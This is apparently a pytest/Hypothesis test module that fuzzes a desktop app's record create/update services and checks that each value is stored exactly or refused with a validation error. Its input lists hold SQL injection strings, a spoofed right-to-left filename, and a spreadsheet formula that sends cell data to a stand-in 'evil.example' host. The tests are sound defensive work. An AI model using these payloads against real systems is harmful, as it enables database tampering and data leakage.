"""Hostile values through records.create / update for every field of every kind (issue 5, "Hostile input").

Each value is either stored and read back exactly (after a fresh select) or refused with a
ValidationError naming the field; never another exception, never a partial write. The strategies
and helpers here are shared by the other test_hostile_* modules.
"""

from __future__ import annotations

import datetime as dt
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from desktop_app.db import db
from desktop_app.db import models as m
from desktop_app.services import choices, records
from desktop_app.services.errors import ValidationError
from desktop_app.services.kinds import KINDS
from desktop_app.services.values import LONGTEXT, TEXT, Field, TextType

pytestmark = pytest.mark.usefixtures("database")

# Every example runs in a transaction that is rolled back, so the function-scoped data folder is
# shared on purpose; the big values make examples slow and large by design.
FUZZ: dict[str, Any] = {
    "deadline": None,
    "derandomize": True,
    "database": None,
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                              HealthCheck.data_too_large, HealthCheck.large_base_example],
}

SQL = ["'); DROP TABLE company;--", "Robert'); DROP TABLE opportunity; --", "1 OR 1=1", "\" OR \"\"=\"", "%", "_",
       "\\", "; VACUUM;", "x' UNION SELECT * FROM setting --"]
SCRIPTS = ["🙂", "👩🏽‍💻", "🏳️‍🌈 team", "שלום עולם", "مرحبا بالعالم", "\u202eevil\u202c.exe", "e\u0301", "A\u030a",
           "\u0065\u0301\u0327\u0308", "Zalgo z\u0336\u0311\u0351", "ﬁ", "ǰ", "ß", "İstanbul", "\ufeffbom", "a\u200bb",
           "\u2028line\u2029para", "\u3000ideographic", "中文", "한국어", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢"]
CONTROL = ["", " ", "\x00", "a\x00b", "\x01\x02\x1b[31m\x7f", "\ud800", "x\udfff", "\udbff\udc00", "\t", "\r\n",
           "a\rb", "\r", "\x0b\x0c", "\x1c\x1d\x1e\x1f", "\x85", "line\nbreak", "  padded  "]
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1)", "-2+3", "+49 30 1234", "'quoted",
            "''double", "=1+1", "\t=1", "\r=1", "-", "+", "@", "=", "'"]
DATES = ["0001-01-01", "9999-12-31", "10000-01-01", "2024-02-30", "2023-02-29", "2024-02-29", "1969-12-31",
         "1970-01-01", "2100-12-31", "2101-01-01", "-2024-01-01", "2024-13-01", "2024-00-10", "20240301",
         "2024-W01-1", "30 February", "2024/03/01"]
NUMBERS = ["-1", "0", "1", "5", "6", "3.0", "1e3", "NaN", "inf", "-0", "+5", "٣", "1_000", "1,000", "1 000",
           "9" * 30, "9" * 5000, str(2**63), str(2**63 - 1), str(-(2**63)), str(2**64), str(10**12), str(10**12 + 1),
           "0x10", "١٢٣"]
WORDS = ["EUR", "eur", " usd ", "XXX", "€", "E U R", "yes", "No", "maybe", "lead", "LEAD", "Phone Screen",
         "phone_screen", "00:00", "23:59", "24:00", "12:60", "7:05", "15:30:00"]
SPECIAL_TEXT = SQL + SCRIPTS + CONTROL + FORMULAS + DATES + NUMBERS + WORDS

any_char = st.characters(exclude_categories=())  # surrogates (Cs) included
big_text = st.builds(lambda piece, n: piece * n, st.sampled_from(["x", "🙂", "e\u0301", " ", "\x01", "ab\n"]),
                     st.sampled_from([256, 200_001, 1_000_000, 3_000_000]))
hostile_text = st.one_of(
    st.sampled_from(SPECIAL_TEXT),
    st.text(any_char, max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from(SPECIAL_TEXT), st.text(any_char, max_size=10)),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.dates().map(dt.date.isoformat),
    big_text,
)
hostile_value = st.one_of(
    hostile_text,
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([0, 1, 5, 6, -1, 2**63 - 1, 2**63, -(2**63) - 1, 10**12, 10**12 + 1, 10**5000]),
    st.floats(), st.booleans(), st.none(), st.dates(), st.datetimes(), st.times(),
    # plausible values too, so that many examples are stored and read back
    st.integers(min_value=-1, max_value=7), st.dates(dt.date(1970, 1, 1), dt.date(2100, 12, 31)),
    st.sampled_from(sorted({c for name in dir(choices) if name.isupper()
                            for c in getattr(choices, name) if isinstance(c, str)})),
)


@contextmanager
def rolled_back() -> Iterator[None]:
    """One example's writes, undone afterwards (the services' own transactions nest as savepoints)."""
    with db.atomic() as transaction:
        yield
        transaction.rollback()


def row_counts() -> dict[str, int]:
    return {model._meta.table_name: model.select().count() for model in m.RECORD_MODELS}


def everything() -> dict[str, list[dict]]:
    return {model._meta.table_name: list(model.select().order_by(model.id).dicts()) for model in m.RECORD_MODELS}


def make_world() -> dict[str, int]:
    """One committed record of every kind, for links."""
    ids: dict[str, int] = {}

    def make(kind: str, values: dict[str, Any]) -> None:
        ids[kind] = records.create(kind, values).primary_id

    make("company", {"name": "Acme"})
    make("opportunity", {"company": ids["company"], "title": "Dev", "salary_currency": "EUR"})
    make("interview", {"opportunity": ids["opportunity"], "scheduled_on": "2024-03-01"})
    make("contact", {"name": "Jane", "company": ids["company"]})
    make("interview_contact", {"interview": ids["interview"], "contact": ids["contact"]})
    make("interaction", {"contact": ids["contact"], "occurred_on": "2024-03-02"})
    make("question", {"interview": ids["interview"], "text": "Why us?"})
    make("skill", {"name": "SQL"})
    make("skill_rating", {"skill": ids["skill"], "rated_on": "2024-03-03", "level": 3})
    make("offer", {"opportunity": ids["opportunity"], "received_on": "2024-06-01", "base_salary": 1000})
    make("offer_revision", {"offer": ids["offer"], "revised_on": "2024-06-02", "currency": "EUR", "base_salary": 900})
    make("criterion", {"name": "Pay"})
    make("score", {"company": ids["company"], "criterion": ids["criterion"], "score": 4, "scored_on": "2024-03-04"})
    make("task", {"title": "Follow up"})
    return ids


def base_values(world: dict[str, int], kind_name: str) -> dict[str, Any]:
    """Valid values of every required field (and of the fields a cross-field rule needs), clashing
    with no record of the world."""
    k = KINDS[kind_name]
    values: dict[str, Any] = {}
    for f in k.fields:
        if f.ref and f.required:
            values[f.name] = world[f.ref]
        elif f.required and f.type in (TEXT, LONGTEXT):
            values[f.name] = f"Base {f.name}"
        elif f.required and f.default is None:
            values[f.name] = {"date": dt.date(2024, 7, 7), "money": 10, "rating": 2, "currency": "EUR"}[f.type.name]
    if kind_name == "opportunity":
        values["salary_currency"] = "EUR"
    if kind_name == "interview_contact":
        values["contact"] = records.create("contact", {"name": "Other"}).primary_id
    return values


def expected_text(field: Field, value: str) -> str:
    """What a text field keeps of a string, computed independently of values.py."""
    if field.type == TEXT:
        return unicodedata.normalize("NFC", value).strip()
    return value.strip("\r\n").rstrip()


def assert_stored_exactly(field: Field, value: Any, stored: Any) -> None:
    """The value read back is what the field keeps of the input, and it survives being saved and
    written out as text again unchanged (which export -> import relies on)."""
    assert stored == field.clean(value)
    if stored is None or (field.type.name == "bool" and value in (None, "", " ")):
        assert field.is_empty(value) or value is None
        return
    assert field.clean(stored) == stored
    assert field.clean(field.to_text(stored)) == stored
    if isinstance(field.type, TextType):
        assert isinstance(stored, str) and len(stored) <= field.type.max_length
        assert "\x00" not in stored
        stored.encode("utf-8")  # no lone surrogate
        if isinstance(value, str):
            assert stored == expected_text(field, value)
    elif field.type.name == "date":
        assert dt.date(1970, 1, 1) <= stored <= dt.date(2100, 12, 31)
        if isinstance(value, dt.date):
            assert stored == (value.date() if isinstance(value, dt.datetime) else value)
    elif field.type.name in ("int", "money", "rating", "ref"):
        assert isinstance(stored, int) and not isinstance(stored, bool)
        assert -(2**63) <= stored < 2**63
        if field.type.name == "money":
            assert 0 <= stored <= 10**12
        if field.type.name == "rating":
            assert 1 <= stored <= 5
        if isinstance(value, int) and not isinstance(value, bool):
            assert stored == value


def assert_refused(exc: ValidationError, kind_name: str, field_name: str) -> None:
    named = {e.field for e in exc.errors}
    assert named <= set(KINDS[kind_name].field_names), exc.errors
    duplicate = any(e.message.startswith("there is already") for e in exc.errors)
    assert field_name in named or duplicate, exc.errors
    for e in exc.errors:
        assert e.message and len(e.message) < 300, e.message
        e.message.encode("utf-8")  # printable on any console


@pytest.fixture
def world() -> dict[str, int]:
    return make_world()


FIELDS = [(k.name, f.name) for k in KINDS.values() for f in k.fields]


@settings(max_examples=400, **FUZZ)
@given(target=st.sampled_from(FIELDS), value=hostile_value)
def test_create_stores_exactly_or_refuses_naming_the_field(world: dict[str, int], target: tuple[str, str],
                                                           value: Any) -> None:
    kind_name, field_name = target
    with rolled_back():
        values = base_values(world, kind_name) | {field_name: value}
        counts = row_counts()
        try:
            change = records.create(kind_name, values)
        except ValidationError as exc:
            assert_refused(exc, kind_name, field_name)
            assert row_counts() == counts
            event("refused")
            return
        event("stored")
        stored = records.get(kind_name, change.primary_id)
        assert stored == change.rows[0].after
        assert_stored_exactly(KINDS[kind_name].field(field_name), value, stored[field_name])


@settings(max_examples=300, **FUZZ)
@given(target=st.sampled_from(FIELDS), value=hostile_value)
def test_update_stores_exactly_or_refuses_and_changes_nothing(world: dict[str, int], target: tuple[str, str],
                                                              value: Any) -> None:
    kind_name, field_name = target
    with rolled_back():
        record_id = world[kind_name]
        before, counts = everything(), row_counts()
        try:
            change = records.update(kind_name, record_id, {field_name: value})
        except ValidationError as exc:
            assert_refused(exc, kind_name, field_name)
            assert everything() == before and row_counts() == counts
            return
        stored = records.get(kind_name, record_id)
        if change.rows:
            assert stored == change.rows[0].after
        field = KINDS[kind_name].field(field_name)
        if field.is_empty(value) and field.type.name != "bool":
            assert stored[field_name] is None
        else:
            assert_stored_exactly(field, value, stored[field_name])


# --- plain regression tests for what the fuzzing found ----------------------------------------


@pytest.mark.parametrize("value", ["a\ud800", "\udfff", "ok \udbff"])
@pytest.mark.parametrize("field", ["name", "notes"])
def test_a_lone_surrogate_is_refused_naming_the_field(value: str, field: str) -> None:
    counts = row_counts()
    with pytest.raises(ValidationError) as caught:
        records.create("company", {"name": "Acme", field: value})
    assert "lone surrogate" in caught.value.for_field(field)
    assert row_counts() == counts


@pytest.mark.parametrize("value", [2**63, 2**70, float("inf"), float("nan"), 1.5, True, "12abc", -3, 0])
def test_a_link_that_is_no_record_id_is_refused_naming_the_field(value: Any) -> None:
    with pytest.raises(ValidationError) as caught:
        records.create("opportunity", {"company": value, "title": "Dev"})
    assert "is not a record id" in caught.value.for_field("company")


def test_numbers_beyond_sqlite_are_refused_not_crashed(world: dict[str, int]) -> None:
    for value in ("9" * 5000, 10**5000, 2**63, str(2**64)):
        with pytest.raises(ValidationError) as caught:
            records.update("interview", world["interview"], {"duration_minutes": value})
        assert "too large" in caught.value.for_field("duration_minutes")
        with pytest.raises(ValidationError) as caught:
            records.update("offer", world["offer"], {"bonus": value})
        assert "out of range; amounts go from 0" in caught.value.for_field("bonus")


def test_a_refused_value_is_repeated_short_and_printable() -> None:
    with pytest.raises(ValidationError) as caught:
        records.create("task", {"title": "t", "due_on": "x" * 3_000_000})
    assert caught.value.for_field("due_on") == (
        "'" + "x" * 40 + "…' is not a date; use YYYY-MM-DD, e.g. 2026-03-14")
    with pytest.raises(ValidationError) as caught:
        records.create("opportunity", {"company": 1, "title": "t", "status": "\x1b[31m\ud800"})
    assert caught.value.for_field("status").startswith("'\\x1b[31m\ufffd' is not one of")


@pytest.mark.parametrize(("value", "stored"), [
    ("'); DROP TABLE company;--", "'); DROP TABLE company;--"), ("👩🏽‍💻 שלום", "👩🏽‍💻 שלום"),
    ("A\u030a", "\u00c5"), ("  \x01bell\x7f ", "\x01bell\x7f"),
])
def test_hostile_but_valid_text_is_stored_exactly(value: str, stored: str) -> None:
    company = records.create("company", {"name": value, "notes": value}).primary_id
    row = records.get("company", company)
    assert row["name"] == stored
    assert row["notes"] == value.strip("\r\n").rstrip()
    assert m.Company.select().count() == 1


@pytest.mark.parametrize(("day", "reason"), [
    ("0001-01-01", "outside 1970-01-01"), ("9999-12-31", "outside 1970-01-01"), ("2024-02-30", "is not a date"),
    ("10000-01-01", "is not a date"),
])
def test_dates_out_of_range_or_impossible_are_refused(day: str, reason: str) -> None:
    with pytest.raises(ValidationError) as caught:
        records.create("task", {"title": "t", "due_on": day})
    assert reason in caught.value.for_field("due_on")
